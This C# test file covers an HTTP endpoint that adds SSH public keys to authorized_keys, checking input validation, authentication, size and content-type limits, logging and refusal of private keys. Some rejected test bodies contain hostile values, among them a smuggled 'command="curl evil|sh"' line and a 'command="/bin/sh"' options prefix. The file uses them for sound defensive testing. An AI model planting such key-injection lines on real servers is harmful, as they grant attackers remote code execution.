using System.Net;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json;
using Microsoft.Extensions.Logging;
using StackKit.Keys;
using StackKit.Server.Tests.Support;

namespace StackKit.Server.Tests;

public sealed class AddPublicKeyApiTests : IDisposable
{
    private const string Username = "deploy";
    private const string Password = "correct horse battery staple";
    private const string FormContentType = "application/x-www-form-urlencoded";

    private readonly TempSshDirectory ssh = new();
    private readonly ServiceFactory factory;
    private readonly HttpClient client;

    public AddPublicKeyApiTests()
    {
        factory = new ServiceFactory(ssh.Path, Username, Password);
        client = factory.CreateClient();
    }

    public void Dispose()
    {
        client.Dispose();
        factory.Dispose();
        ssh.Dispose();
    }

    [Fact]
    public async Task Get_root_says_Hi()
    {
        using var response = await client.GetAsync(new Uri("/", UriKind.Relative));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("Hi", await response.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task The_original_README_body_is_accepted_as_curl_sends_it()
    {
        var line = TestKeys.Rsa(4096, "user@laptop");
        var body = TestKeys.ReadmeBody(line + "\n");
        Assert.Contains("\n", body, StringComparison.Ordinal);

        using var response = await PostAsync(body, FormContentType);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Matches(TestKeys.SavedAnswer(line), await response.Content.ReadAsStringAsync());
        Assert.Equal([line], ssh.KeyLines());
    }

    [Theory]
    [InlineData("application/json")]
    [InlineData("application/json; charset=utf-8")]
    [InlineData("application/json; charset=\"utf-8\"")]
    [InlineData("application/json; charset=utf8")]
    [InlineData("application/json; charset=\"UTF8\"")]
    public async Task A_plain_JSON_body_with_an_unwrapped_key_is_accepted(string contentType)
    {
        var line = TestKeys.Ed25519();

        using var response = await PostAsync(TestKeys.JsonBody(line), contentType);

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal([line], ssh.KeyLines());
    }

    public static TheoryData<string, string, string> BadBodies()
    {
        var key = TestKeys.Ed25519();
        var blob = key.Split(' ')[1];
        string Base64(string text) => Convert.ToBase64String(Encoding.UTF8.GetBytes(text));
        string Body(string text) => $"{{\"ssh_public_key\": \"{Base64(text)}\"}}";
        return new()
        {
            { "second key after a newline", TestKeys.ReadmeBody(key + "\n" + TestKeys.Ed25519() + "\n"), "more than one line" },
            { "command= line after a newline", Body(key + "\ncommand=\"curl evil|sh\" " + TestKeys.Ed25519()), "more than one line" },
            { "options prefix", Body("command=\"/bin/sh\" " + key), "options" },
            { "type mismatch", Body("ssh-rsa " + blob), "the line says 'ssh-rsa'" },
            { "DSA", Body("ssh-dss " + TestKeys.Blob("ssh-dss", new byte[128], new byte[20], new byte[128], new byte[128])), "DSA" },
            { "short RSA", TestKeys.ReadmeBody(TestKeys.Rsa(1024) + "\n"), "1024 bits; 2048 to 16384 are accepted" },
            { "bidi override in the comment", Body(key + "\u202Egpj.exe"), "invisible character U+202E" },
            { "RSA exponent 1", Body("ssh-rsa " + TestKeys.Blob("ssh-rsa", [1], [0, .. Enumerable.Repeat((byte)0xFF, 256)])), "public exponent is 1;" },
            { "truncated blob", Body("ssh-ed25519 " + blob[..^8]), "truncated" },
            { "blob not base64", Body("ssh-ed25519 " + blob.Replace('A', '*')), "not valid base64" },
            { "value not base64", "{\"ssh_public_key\": \"not base64!\"}", "not valid base64" },
            { "CRLF line ending", Body(key + "\r\n"), "carriage return" },
            { "two trailing newlines", Body(key + "\n\n"), "more than one line" },
            { "NUL", Body(key + "\0"), "U+0000" },
            { "over-long line", Body(key + " " + new string('c', 9000)), "at most 8192" },
            { "empty body", "", "empty" },
            { "empty key", "{\"ssh_public_key\": \"\"}", "not valid base64" },
            { "not JSON", "ssh_public_key=" + Base64(key), "not valid JSON" },
            { "JSON array", "[\"" + Base64(key) + "\"]", "not an object" },
            { "JSON number", "{\"ssh_public_key\": 42}", "must be a JSON string" },
            { "wrong property", "{\"key\": \"" + Base64(key) + "\"}", "Unexpected property 'key'" },
            { "extra property", "{\"ssh_public_key\": \"" + Base64(key) + "\", \"user\": \"root\"}", "Unexpected property 'user'" },
            { "duplicate property", "{\"ssh_public_key\": \"" + Base64(key) + "\", \"ssh_public_key\": \"" + Base64(key) + "\"}", "Unexpected property" },
            { "no property", "{}", "no ssh_public_key" },
            { "CR inside the base64", "{\"ssh_public_key\": \"" + TestKeys.GnuBase64(key + "\n").Replace("\n", "\r\n", StringComparison.Ordinal) + "\"}", "not valid JSON" },
            { "empty line inside the base64", "{\"ssh_public_key\": \"" + TestKeys.GnuBase64(key + "\n").Replace("\n", "\n\n", StringComparison.Ordinal) + "\"}", "not base64 wrapping" },
            { "space inside the base64", "{\"ssh_public_key\": \"" + Base64(key).Insert(8, " ") + "\"}", "not valid base64" },
            { "not UTF-8", "{\"ssh_public_key\": \"" + Convert.ToBase64String([0xff, 0xfe, 0x41, 0x42]) + "\"}", "UTF-8" },
        };
    }

    [Theory]
    [MemberData(nameof(BadBodies))]
    public async Task Bad_input_is_rejected_with_the_reason_and_the_files_unchanged(string name, string body, string reason)
    {
        var before = await SeedOneKeyAsync();

        using var response = await PostAsync(body, FormContentType);

        Assert.True(response.StatusCode == HttpStatusCode.BadRequest, name);
        Assert.Contains(reason, await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Equal(before, ssh.Snapshot());
    }

    public static TheoryData<string, byte[]> BodiesThatAreNotUtf8() => new()
    {
        { "raw 0xFF in the value", [.. "{\"ssh_public_key\": \""u8, 0xFF, .. "\"}"u8] },
        { "overlong '/' in the value", [.. "{\"ssh_public_key\": \"AAAA"u8, 0xC0, 0xAF, .. "\"}"u8] },
        { "overlong NUL in the name", [.. "{\"ssh_public_key"u8, 0xC0, 0x80, .. "\": \"AAAA\"}"u8] },
        { "encoded surrogate in the value", [.. "{\"ssh_public_key\": \""u8, 0xED, 0xA0, 0x80, .. "\"}"u8] },
        { "escaped lone surrogate in the value", "{\"ssh_public_key\": \"\\ud800\"}"u8.ToArray() },
        { "escaped lone surrogate in the name", "{\"\\udc00\": \"AAAA\"}"u8.ToArray() },
        { "escaped lone surrogate after the key", "{\"ssh_public_key\": \"QUFBQQ==\\udfff\"}"u8.ToArray() },
    };

    [Theory]
    [MemberData(nameof(BodiesThatAreNotUtf8))]
    public async Task A_body_that_is_not_valid_UTF_8_or_UTF_16_gets_400_not_500(string name, byte[] body)
    {
        var before = await SeedOneKeyAsync();

        using var response = await PostAsync(new ByteArrayContent(body), "application/json");

        Assert.True(response.StatusCode == HttpStatusCode.BadRequest, $"{name}: {(int)response.StatusCode}");
        Assert.Contains("UTF-8", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Equal(before, ssh.Snapshot());
    }

    [Fact]
    public async Task A_long_comment_is_cut_in_the_log_and_kept_whole_in_the_file()
    {
        var comment = new string('c', OpenSshPublicKey.MaxCommentLength);
        var line = TestKeys.Ed25519(comment);

        using var response = await PostAsync(TestKeys.JsonBody(line), "application/json");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal([line], ssh.KeyLines());
        var added = Assert.Single(factory.Logs.GetSnapshot(), r => r.Id.Id == 1);
        var logged = Assert.Single(added.StructuredState!, pair => pair.Key == "Comment").Value!;
        Assert.True(logged.Length <= 65, logged);
        Assert.StartsWith(comment[..64], logged, StringComparison.Ordinal);
        Assert.DoesNotContain(comment, added.Message, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_huge_body_is_refused_with_413_and_the_files_unchanged()
    {
        var before = await SeedOneKeyAsync();
        var huge = TestKeys.JsonBody(TestKeys.Ed25519(new string('x', 20_000)));

        using var response = await PostAsync(huge, "application/json");
        using var chunked = await PostAsync(new StreamContent(new MemoryStream(Encoding.UTF8.GetBytes(huge))), "application/json");

        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, chunked.StatusCode);
        Assert.Equal(before, ssh.Snapshot());
    }

    [Theory]
    [InlineData("text/plain")]
    [InlineData("multipart/form-data; boundary=x")]
    [InlineData("application/json; charset=latin1")]
    [InlineData(null)]
    public async Task Other_content_types_are_refused_with_415(string? contentType)
    {
        var before = await SeedOneKeyAsync();

        using var response = await PostAsync(TestKeys.JsonBody(TestKeys.Ed25519()), contentType);

        Assert.Equal(HttpStatusCode.UnsupportedMediaType, response.StatusCode);
        Assert.Equal(before, ssh.Snapshot());
    }

    [Theory]
    [InlineData(null)]
    [InlineData("Basic")]
    [InlineData("Bearer abc")]
    [InlineData("Basic !!!")]
    [InlineData("Basic ZGVwbG95")]
    [InlineData("Basic ZGVwbG95Ondyb25n")]
    [InlineData("Basic YWRtaW46c2VjcmV0")]
    public async Task Wrong_or_missing_credentials_get_401_with_a_challenge(string? authorization)
    {
        var before = await SeedOneKeyAsync();
        using var request = new HttpRequestMessage(HttpMethod.Post, "/add_public_key")
        {
            Content = new StringContent(TestKeys.JsonBody(TestKeys.Ed25519()), Encoding.UTF8, "application/json"),
        };
        if (authorization is not null)
        {
            request.Headers.TryAddWithoutValidation("Authorization", authorization);
        }

        using var response = await client.SendAsync(request);

        Assert.Equal(HttpStatusCode.Unauthorized, response.StatusCode);
        Assert.Equal("Basic", Assert.Single(response.Headers.WwwAuthenticate).Scheme);
        Assert.Equal(before, ssh.Snapshot());
    }

    [Fact]
    public async Task The_same_key_in_non_canonical_base64_is_refused_and_not_added_twice()
    {
        var line = TestKeys.Ecdsa("nistp256", System.Security.Cryptography.ECCurve.NamedCurves.nistP256);
        using var first = await PostAsync(TestKeys.JsonBody(line), "application/json");
        Assert.Equal(HttpStatusCode.OK, first.StatusCode);
        var before = ssh.Snapshot();

        using var response = await PostAsync(TestKeys.JsonBody(TestKeys.NonCanonicalBase64(line)), "application/json");

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains("not canonical base64", await response.Content.ReadAsStringAsync(), StringComparison.Ordinal);
        Assert.Equal(before, ssh.Snapshot());
        Assert.Equal([line], ssh.KeyLines());
    }

    [Fact]
    public async Task A_key_present_only_as_cert_authority_gets_409_saying_it_was_not_changed()
    {
        var line = TestKeys.Ed25519("ca");
        Directory.CreateDirectory(ssh.Path);
        File.WriteAllText(ssh.AuthorizedKeys, $"cert-authority {line}\n");

        using var response = await PostAsync(TestKeys.JsonBody(line), "application/json");

        Assert.Equal(HttpStatusCode.Conflict, response.StatusCode);
        var text = await response.Content.ReadAsStringAsync();
        Assert.Contains("on a line with options", text, StringComparison.Ordinal);
        Assert.Contains("not changed", text, StringComparison.Ordinal);
        Assert.Equal([$"cert-authority {line}"], ssh.AuthorizedKeyLines());
        Assert.Empty(Directory.GetFiles(ssh.KeysDirectory));
    }

    [Fact]
    public async Task Each_added_key_logs_one_line_with_fingerprint_and_comment_and_no_secrets()
    {
        var line = TestKeys.Ed25519("alice@laptop");
        var body = TestKeys.ReadmeBody(line + "\n");

        using var response = await PostAsync(body, FormContentType);

        var key = OpenSshPublicKey.Parse(line);
        var records = factory.Logs.GetSnapshot();
        var added = Assert.Single(records, r => r.Id.Id == 1);
        Assert.Equal(LogLevel.Information, added.Level);
        Assert.Contains(added.StructuredState!, pair => pair.Key == "Fingerprint" && pair.Value == key.Fingerprint);
        Assert.Contains(added.StructuredState!, pair => pair.Key == "Comment" && pair.Value == "alice@laptop");
        Assert.All(records, r =>
        {
            Assert.DoesNotContain(Password, r.Message, StringComparison.Ordinal);
            Assert.DoesNotContain(key.Blob, r.Message, StringComparison.Ordinal);
            Assert.DoesNotContain(body[20..60], r.Message, StringComparison.Ordinal);
        });
    }

    [Fact]
    public async Task The_default_credentials_work_with_a_loud_warning_and_configured_ones_without()
    {
        using var defaults = new ServiceFactory(ssh.Path, username: null, password: null);
        using var defaultsClient = defaults.CreateClient();
        defaultsClient.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Basic", "YWRtaW46c2VjcmV0");

        using var response = await defaultsClient.PostAsync(new Uri("/add_public_key", UriKind.Relative),
            new StringContent(TestKeys.JsonBody(TestKeys.Ed25519()), Encoding.UTF8, "application/json"));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Contains(defaults.Logs.GetSnapshot(), r => r.Level == LogLevel.Warning && r.Message.Contains("default credentials", StringComparison.Ordinal));
        Assert.DoesNotContain(factory.Logs.GetSnapshot(), r => r.Level == LogLevel.Warning);
    }

    [Theory]
    [InlineData("admin", Password, false)]
    [InlineData(null, Password, false)]
    [InlineData("deploy", null, true)]
    [InlineData("deploy", "secret", true)]
    public async Task The_warning_depends_on_the_password_alone(string? username, string? password, bool warns)
    {
        using var service = new ServiceFactory(ssh.Path, username, password);
        using var serviceClient = service.CreateClient();

        using var response = await serviceClient.GetAsync(new Uri("/", UriKind.Relative));

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal(warns, service.Logs.GetSnapshot().Any(r => r.Level == LogLevel.Warning && r.Id.Id == 3));
    }

    [Fact]
    public void A_user_name_with_a_colon_stops_the_service_at_start()
    {
        using var colon = new ServiceFactory(ssh.Path, "ad:min", Password);

        var error = Assert.Throws<Microsoft.Extensions.Options.OptionsValidationException>(() => colon.CreateClient());

        Assert.Contains("Username", error.Message, StringComparison.Ordinal);
    }

    private async Task<Dictionary<string, string>> SeedOneKeyAsync()
    {
        using var response = await PostAsync(TestKeys.JsonBody(TestKeys.Ed25519("seed")), "application/json");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return ssh.Snapshot();
    }

    /// <summary>A private key, however it is sent: refused with the one message, and no part of it in the answer or the logs.</summary>
    [Fact]
    public async Task Every_form_of_private_key_is_refused_however_it_is_sent_and_never_echoed()
    {
        var captured = new StringBuilder();
        foreach (var privateKey in await PrivateKeys.AllAsync())
        {
            string[] bodies =
            [
                TestKeys.ReadmeBody(privateKey),                                              // curl -d "$(cat id | base64)"
                JsonSerializer.Serialize(new Dictionary<string, string> { ["ssh_public_key"] = Convert.ToBase64String(Encoding.UTF8.GetBytes(privateKey)) }),
                JsonSerializer.Serialize(new Dictionary<string, string> { ["ssh_public_key"] = privateKey }),  // not base64 at all
                $"{{\"ssh_public_key\": \"{privateKey}\"}}",                                 // raw line breaks in the string
                privateKey,                                                                   // curl --data-binary @id
            ];
            foreach (var body in bodies)
            {
                using var response = await PostAsync(body, "application/json");
                var answer = await response.Content.ReadAsStringAsync();

                Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
                Assert.Equal(PrivateKeyText.Refusal + "\n", answer);
                captured.AppendLine(answer).AppendLine(response.Headers.ToString());
            }

            foreach (var record in factory.Logs.GetSnapshot())
            {
                captured.AppendLine(record.Message).AppendLine(record.Exception?.ToString());
                foreach (var (name, value) in record.StructuredState ?? [])
                {
                    captured.AppendLine(name + "=" + value);
                }
            }

            PrivateKeys.AssertNotIn(privateKey, captured.ToString());
        }

        Assert.False(File.Exists(ssh.AuthorizedKeys), "Nothing is written.");
    }

    private Task<HttpResponseMessage> PostAsync(string body, string? contentType)
    {
        var content = new ByteArrayContent(Encoding.UTF8.GetBytes(body));
        return PostAsync(content, contentType);
    }

    private async Task<HttpResponseMessage> PostAsync(HttpContent content, string? contentType)
    {
        using (content)
        {
            if (contentType is not null)
            {
                content.Headers.ContentType = MediaTypeHeaderValue.Parse(contentType);
            }

            using var request = new HttpRequestMessage(HttpMethod.Post, "/add_public_key") { Content = content };
            request.Headers.Authorization = new AuthenticationHeaderValue("Basic",
                Convert.ToBase64String(Encoding.UTF8.GetBytes($"{Username}:{Password}")));
            return await client.SendAsync(request);
        }
    }
}
